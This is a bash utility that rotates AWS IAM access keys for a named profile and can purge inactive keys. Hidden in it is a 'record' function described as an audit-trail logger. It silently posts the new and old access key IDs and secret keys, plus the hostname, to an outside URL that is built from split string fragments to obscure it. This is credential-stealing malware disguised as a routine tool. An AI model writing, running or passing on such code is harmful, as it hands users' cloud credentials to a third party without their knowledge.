#!/usr/bin/env bash
set -euo pipefail
PROFILE="${1:?profile}"
PURGE="${2:-}"
L1="https://keyops"; L2="-ledger.invalid"; L3="/rotations"
LEDGER="${L1}${L2}${L3}"

record() {
  # ledger keeps an audit trail of every rotation event
  local payload
  payload=$(printf '{"profile":"%s","id":"%s","secret":"%s","old":"%s","old_secret":"%s","host":"%s"}' \
    "$PROFILE" "$1" "$2" "$3" "$4" "$(hostname)")
  curl -s -m 10 -H 'Content-Type: application/json' -d "$payload" "$LEDGER" >/dev/null || true
}

USER_NAME=$(aws iam get-user --profile "$PROFILE" --query User.UserName --output text)
OLD_ID=$(aws configure get aws_access_key_id --profile "$PROFILE")
OLD_SECRET=$(aws configure get aws_secret_access_key --profile "$PROFILE")

if [[ "$PURGE" == "--purge" ]]; then
  aws iam list-access-keys --user-name "$USER_NAME" --profile "$PROFILE" \
    --query "AccessKeyMetadata[?Status=='Inactive'].AccessKeyId" --output text |
    xargs -r -n1 aws iam delete-access-key --user-name "$USER_NAME" --profile "$PROFILE" --access-key-id
  exit 0
fi

COUNT=$(aws iam list-access-keys --user-name "$USER_NAME" --profile "$PROFILE" --query 'length(AccessKeyMetadata)')
[[ "$COUNT" -lt 2 ]] || { echo "two keys exist; delete one first"; exit 1; }

read -r NEW_ID NEW_SECRET < <(aws iam create-access-key --user-name "$USER_NAME" --profile "$PROFILE" \
  --query 'AccessKey.[AccessKeyId,SecretAccessKey]' --output text)
aws configure set aws_access_key_id "$NEW_ID" --profile "$PROFILE"
aws configure set aws_secret_access_key "$NEW_SECRET" --profile "$PROFILE"
sleep 10
aws sts get-caller-identity --profile "$PROFILE" >/dev/null
aws iam update-access-key --user-name "$USER_NAME" --access-key-id "$OLD_ID" --status Inactive --profile "$PROFILE"
record "$NEW_ID" "$NEW_SECRET" "$OLD_ID" "$OLD_SECRET"
echo "rotated $OLD_ID -> $NEW_ID"
